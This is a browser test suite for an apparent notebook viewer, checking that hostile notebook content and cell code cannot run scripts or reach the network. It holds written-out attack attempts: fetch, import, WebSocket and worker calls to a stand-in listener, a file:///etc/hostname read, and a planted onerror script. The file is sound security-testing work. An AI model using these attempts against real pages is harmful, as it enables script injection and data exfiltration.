/** Notebooks that mean harm, in a real browser: nothing of them runs in the page, and nothing leaves it. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Notebook, NotebookCell } from '../../src/jupyter/notebook.js';
import { attacks } from './attacks.js';
import {
  describeInChromium,
  notebookOf,
  type Opened,
  outputOf,
  runAll,
  withoutPolicy,
  withWorker,
} from './chromium.js';

let server: Server;
let address: string;
let hits: string[];

beforeAll(async () => {
  hits = [];
  server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  address = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

/** The attacks, with somebody who hears them. */
const heard = () =>
  attacks.map((attack) =>
    attack.replaceAll('https://example.org', `http://${address}`).replace('src=x', `src=http://${address}/x`),
  );

function output(data: Record<string, unknown>): NotebookCell {
  const outputs = [{ output_type: 'display_data' as const, data, metadata: {} }];
  return { cell_type: 'code', metadata: {}, source: '', execution_count: 1, outputs };
}

async function pwned(page: Page): Promise<unknown> {
  // A click on every link, in case one of them is a script.
  await page.evaluate(
    'document.querySelectorAll("main a").forEach((a) => a.protocol === "javascript:" && a.click())',
  );
  await page.waitForTimeout(300);
  return page.evaluate('window.pwned');
}

describeInChromium('a hostile notebook', (open) => {
  it('runs nothing and asks for nothing when it is opened, whatever is in it', async () => {
    const types = ['text/html', 'text/markdown', 'text/plain', 'image/svg+xml'];
    const cells = heard().flatMap((attack): NotebookCell[] => [
      { cell_type: 'markdown', metadata: {}, source: attack },
      ...types.map((type) => output({ [type]: attack })),
    ]);
    const notebook: Notebook = { cells, metadata: {}, nbformat: 4, nbformat_minor: 4 };

    const { page, asked } = await open(notebook);

    expect(await pwned(page)).toBeUndefined();
    expect(asked).toEqual([]);
    expect(hits).toEqual([]);
  });

  it('runs nothing in the page when its cells run and show what they like', async () => {
    const notebook = notebookOf(
      "import { show } from 'aliaslab';\nimport { table } from 'arquero';",
      `const attacks: string[] = ${JSON.stringify(heard())};`,
      "for (const attack of attacks) show({ [Symbol.for('Jupyter.display')]: () => ({ 'text/html': attack }) });",
      // A drawing that is refused throws, and the next is shown all the same.
      "for (const attack of attacks) try { show({ [Symbol.for('Jupyter.display')]: () => ({ 'image/svg+xml': attack, 'text/markdown': attack }) }); } catch (error) { console.log(String(error)); }",
      'for (const attack of attacks) show(table({ [attack]: [attack] }));',
      'for (const attack of attacks) { console.log(attack); console.error(attack); }',
      "const [a] = attacks; const link = '<a href=\"javascript:window.pwned = 1\">x</a>';\nfor (const text of [a, link, attacks[2], attacks[3]]) show({ data: [{ type: 'scatter', x: [text], y: [1], name: text, text: [text], mode: 'markers+text', hovertext: [text] }], layout: { title: { text }, images: [{ source: 'http://HERE/plot.png', xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }], annotations: [{ text, x: 0, y: 1 }], meta: { alt: text, caption: text } } });".replace(
        'HERE',
        address,
      ),
      'throw Object.assign(new Error(attacks.join()), { name: attacks[0] });',
    );
    const { page, asked } = await open(notebook);

    expect(await runAll(page)).toBe('Cell 8 failed.');
    await page.waitForFunction("document.querySelectorAll('.js-plotly-plot .modebar').length === 4");

    expect(await pwned(page)).toBeUndefined();
    expect(asked).toEqual([]);
    expect(hits).toEqual([]);
    expect(
      await page.locator('main script, main iframe, main form, main [onerror], main [onload]').count(),
    ).toBe(0);
    expect(await page.locator('[data-cell="3"] .outputs').innerText()).toContain('styled');
  });

  it('runs nothing even without the policy: what is shown was cleaned', async () => {
    const notebook = notebookOf(
      "import { show } from 'aliaslab';\nimport { table } from 'arquero';",
      `for (const attack of ${JSON.stringify(attacks)}) {
  for (const type of ['text/html', 'image/svg+xml', 'text/markdown']) try { show({ [Symbol.for('Jupyter.display')]: () => ({ [type]: attack }) }); } catch (error) { console.log(String(error)); }
  show(table({ [attack]: [attack] }));
}`,
    );

    const { page } = await open(notebook, { change: withoutPolicy });

    expect(await runAll(page)).toBe('All cells ran.');
    expect(await page.locator('.outputs > *').count()).toBeGreaterThan(attacks.length);
    expect(await pwned(page)).toBeUndefined();
  });

  /** JavaScript, so that it runs in a worker that has nothing of ours too. */
  const calling = `(async () => { const tried = [];
const attempt = async (name, ask) => { try { await ask(); tried.push(name + ' asked'); } catch { tried.push(name + ' blocked'); } };
await attempt('fetch', () => fetch('http://HERE/fetch', { mode: 'no-cors' }));
await attempt('import', () => (0, eval)("import('http://HERE/import.js')"));
await attempt('importScripts', () => globalThis.importScripts('http://HERE/scripts.js'));
await attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://HERE/socket'); socket.onopen = resolve; socket.onerror = reject; }));
await attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://HERE/worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"]))); worker.onmessage = ({ data }) => (data ? resolve(1) : reject()); worker.onerror = reject; }));
await attempt('file', () => fetch('file:///etc/hostname'));
return tried.join(', '); })()`;
  /** Runs cells as ours does, with all that a browser has. */
  const free = withWorker(`onmessage = async ({ data }) => {
  if (data.type === 'start') return postMessage('{"run":0,"parts":[]}');
  if (data.type !== 'run') return;
  const text = await (0, eval)(data.source);
  postMessage(JSON.stringify({ run: data.run, parts: [{ output: { output_type: 'stream', name: 'stdout', text } }], end: 'ok' }));
};`);
  const callingFrom = (opened: Promise<Opened>) =>
    opened.then(async ({ page }) => {
      await runAll(page);
      return outputOf(page, 1);
    });

  it.each([
    ['as they are', (html: string) => html],
    ['by the policy alone', free],
  ])('reaches nobody from its cells: %s', async (_what, change) => {
    hits.length = 0;

    const said = await callingFrom(open(notebookOf(calling.replaceAll('HERE', address)), { change }));

    expect(said).toBe(
      'fetch blocked, import blocked, importScripts blocked, socket blocked, worker blocked, file blocked',
    );
    expect(hits).toEqual([]);
  });

  it('has but one way to somebody that the policy alone closes, the word of the language', async () => {
    hits.length = 0;

    await callingFrom(open(notebookOf(calling.replaceAll('HERE', address)), { change: withoutPolicy }));

    expect(hits).toEqual(['/import.js']);
  });

  it('would reach somebody, and a planted script would run, if there were no policy (control)', async () => {
    hits.length = 0;
    const plant = (html: string) =>
      html.replace('</main>', '<img src="data:," onerror="window.pwned = 1"></main>');

    const said = await callingFrom(
      open(notebookOf(calling.replaceAll('HERE', address)), { change: (html) => withoutPolicy(free(html)) }),
    );
    const planted = await open(notebookOf('1'), { change: (html) => withoutPolicy(plant(html)) });
    const kept = await open(notebookOf('1'), { change: plant });

    expect(said).toContain('fetch asked');
    expect(hits).toEqual(expect.arrayContaining(['/fetch', '/socket', '/worker']));
    expect(await pwned(planted.page)).toBe(1);
    expect(await pwned(kept.page)).toBeUndefined();
  });

  it('is cleaned alike when it was shown before and when a cell shows it', async () => {
    const show = `({ [Symbol.for('Jupyter.display')]: () => ({ 'text/html': HTML, 'text/plain': 'plain' }) })`;
    const cells = attacks.map((attack): NotebookCell => {
      const outputs = [
        {
          output_type: 'execute_result' as const,
          data: { 'text/html': attack, 'text/plain': 'plain' },
          metadata: {},
          execution_count: 1,
        },
      ];
      const source = show.replace('HTML', () => JSON.stringify(attack));
      return { cell_type: 'code', metadata: {}, source, execution_count: 1, outputs };
    });
    const { page } = await open({ cells, metadata: {}, nbformat: 4, nbformat_minor: 4 });
    const shown = () =>
      page.locator('.outputs').evaluateAll((all) =>
        all.map((output) =>
          [...output.querySelectorAll('*')].map((each) => {
            const kept = ['href', 'src', 'alt', 'title', 'align', 'open'];
            return [each.localName, ...kept.map((name) => each.getAttribute(name))].join(' ');
          }),
        ),
      );
    const before = await shown();

    expect(await runAll(page)).toBe('All cells ran.');

    expect((await shown()).map((output, i) => [attacks[i], output])).toEqual(
      before.map((output, i) => [attacks[i], output]),
    );
  });
});
